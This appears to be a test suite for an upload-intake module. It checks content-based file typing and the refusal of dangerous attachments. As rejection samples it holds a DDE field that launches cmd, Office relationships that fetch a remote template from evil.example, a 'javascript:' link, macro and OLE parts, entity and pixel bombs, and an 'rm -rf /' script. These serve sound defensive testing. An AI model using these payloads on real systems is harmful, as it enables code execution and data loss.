"""What posts take: by content, never by name; nothing that runs, fetches or hides something."""

import io
from pathlib import Path

import pytest
from PIL import Image

from core.files import kinds
from tests.conversations.attaching import office, packed
from tests.documents.sent_files import bomb, corners, heic, pdf, photo, saved, sent, sheet, tiff
from uploads.intake.attached import attached, name_for
from uploads.intake.refusals import RefusedError

RELATIONS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

MACROS = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'


DDE = "<w:instrText>DD</w:instrText><w:t>x</w:t><w:instrText xml:space='preserve'>EAUTO c:\\\\cmd </w:instrText>"


def relation(kind: str, target: str) -> tuple[str, str]:
    words = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return RELATIONS, f"<Relationships>{words}</Relationships>"


@pytest.mark.parametrize(
    ("name", "content", "kind", "kept_as"),
    [
        ("form.pdf", pdf(), kinds.PDF, "form.pdf"),
        ("page.JPG", photo(6), kinds.JPEG, "page.JPG"),
        ("page.heic", heic(), kinds.JPEG, "page.jpg"),
        ("drawn.png", saved(sheet(), "PNG"), kinds.PNG, "drawn.png"),
        ("page.webp", saved(sheet(), "WEBP"), kinds.JPEG, "page.jpg"),
        ("scan.tiff", tiff(1), kinds.JPEG, "scan.jpg"),
        ("scan.tiff", tiff(3), kinds.PDF, "scan.pdf"),
        ("letter.docx", office("docx"), kinds.DOCX, "letter.docx"),
        ("letter.odt", office("odt"), kinds.ODT, "letter.odt"),
        ("table.xlsx", office("xlsx"), kinds.XLSX, "table.xlsx"),
        ("table.ods", office("ods"), kinds.ODS, "table.ods"),
        ("slides.pptx", office("pptx"), kinds.PPTX, "slides.pptx"),
        ("slides.odp", office("odp"), kinds.ODP, "slides.odp"),
        ("words.txt", "Здравейте, това е моят план.\n".encode(), kinds.TXT, "words.txt"),
        ("words.txt", "Здравейте, това е моят план.\n".encode("cp1251"), kinds.TXT, "words.txt"),
        ("table.csv", b"name;day\nMilda;Monday\n", kinds.CSV, "table.csv"),
        ("picture.pdf", photo(), kinds.JPEG, "picture.jpg"),
        ("letter.exe", office("docx"), kinds.DOCX, "letter.docx"),
    ],
)
def test_a_file_is_what_its_content_says(name: str, content: bytes, kind: str, kept_as: str) -> None:
    with attached(sent(name, content, "application/x-lies")) as checked:
        assert (checked.content_type, checked.name) == (kind, kept_as)
        assert checked.size == checked.path.stat().st_size > 0


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("empty.txt", b"", "empty"),
        ("photos.zip", packed([("a.jpg", b"x")]), "archive"),
        ("letter.docx", packed([("letter/word.xml", "<a/>")]), "archive"),
        ("macro.docm", office("docx", ("word/vbaProject.bin", b"x")), "macros"),
        ("macro.docx", office("docx", types=MACROS), "macros"),
        ("macro.odt", office("odt", ("Basic/Standard/Module1.xml", "<a/>")), "macros"),
        ("event.odt", office("odt", ("settings.xml", '<a><script:event-listener x="y"/></a>')), "macros"),
        ("active.xlsx", office("xlsx", ("xl/activeX/activeX1.xml", "<a/>")), "macros"),
        ("hidden.docx", office("docx", ("word/embeddings/oleObject1.bin", b"MZ")), "attachment"),
        ("template.docx", office("docx", relation("attachedTemplate", "http://evil.example/x.dotm")), "outside"),
        ("picture.docx", office("docx", relation("image", "http://evil.example/x.png")), "outside"),
        ("script.docx", office("docx", relation("hyperlink", "javascript:alert(1)")), "outside"),
        ("dde.docx", office("docx", ("word/footer.xml", DDE)), "outside"),
        ("source.ods", office("ods", ("styles.xml", '<table:table-source x="y"/>')), "outside"),
        ("bomb.xml.docx", office("docx", ("word/x.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a/>')), "too_complicated"),
        ("bomb.docx", office("docx", ("word/media/x.bmp", b"\0" * 60_000_000)), "too_complicated"),
        ("cut.docx", office("docx")[:-30], "broken"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
        ("page.txt", b"<!doctype html><script>alert(1)</script>", "web_page"),
        ("picture.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', None),
        ("run.txt", b"#!/bin/sh\nrm -rf /\n", "program"),
        ("data.txt", b"a\x00b\x01" * 300, "not_for_posts"),
        ("bomb.png", bomb(), "too_many_pixels"),
    ],
)  # fmt: skip
def test_what_acts_fetches_or_hides_something_does_not_come_in(name: str, content: bytes, code: str | None) -> None:
    with pytest.raises(RefusedError) as refused, attached(sent(name, content)):
        pass
    assert code is None or refused.value.code == code
    assert refused.value.sentence


def test_links_that_a_person_follows_may_stay_in_an_office_file() -> None:
    words = ("word/notes.xml", "<w:t>The DDE field of Word is off.</w:t>")
    with attached(sent("a.docx", office("docx", relation("hyperlink", "https://ec.europa.eu/"), words))) as checked:
        assert checked.content_type == kinds.DOCX


@pytest.mark.parametrize("turn", [1, 3, 6, 8])
def test_pictures_are_drawn_anew_upright_and_without_what_the_camera_wrote(tmp_path: Path, turn: int) -> None:
    with attached(sent("photo.jpg", photo(turn))) as checked:
        content = checked.path.read_bytes()
        assert checked.sha256 != checked.sent_sha256
    assert b"SecretPhone" not in content
    assert not Image.open(io.BytesIO(content)).getexif()
    path = tmp_path / "seen.jpg"
    path.write_bytes(content)
    assert corners(path) == ["red", "green", "blue", "yellow"]


def test_a_photo_stays_sharp_enough_for_a_page_of_paper() -> None:
    with attached(sent("photo.jpg", photo(size=(4000, 5600)))) as checked:
        assert (checked.width, checked.height) == (2143, 3000)


def test_names_end_as_the_kind_does() -> None:
    assert name_for("my.plan", kinds.PDF) == "my.pdf"
    assert name_for("plan", kinds.DOCX) == "plan.docx"
    assert name_for("1. plan of the week", kinds.TXT) == "1. plan of the week.txt"
